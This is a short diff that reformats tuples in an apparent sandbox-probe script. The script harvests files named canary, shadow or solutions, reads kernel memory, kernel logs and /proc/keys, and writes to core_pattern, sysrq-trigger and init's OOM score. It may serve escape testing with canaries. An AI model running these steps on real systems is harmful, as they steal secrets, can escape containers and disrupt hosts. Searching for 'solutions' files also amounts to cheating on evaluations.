@@ -10,14 +10,7 @@ for pid in glob.glob("/proc/[0-9]*"):
             except OSError:
                 continue
             loot += [(path, name) for name in names if "canary" in name.lower() or name in ("shadow", "solutions")]
-for file in (
-    "/proc/kcore",
-    "/proc/kmsg",
-    "/dev/kmsg",
-    "/proc/1/mem",
-    "/proc/keys",
-    "/proc/sys/kernel/random/../core_pattern",
-):
+for file in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/proc/1/mem", "/proc/keys", "/proc/sys/kernel/random/../core_pattern"):
     try:
         with open(file, "rb") as opened:
             text = opened.read(100)
@@ -25,12 +18,7 @@ for file in (
             loot.append((file, text))
     except OSError:
         pass
-for file in (
-    "/proc/sys/kernel/core_pattern",
-    "/proc/sys/kernel/hostname",
-    "/proc/sysrq-trigger",
-    "/proc/1/oom_score_adj",
-):
+for file in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"):
     try:
         with open(file, "w") as opened:
             opened.write("|/tmp/canary" if "core" in file else "h")
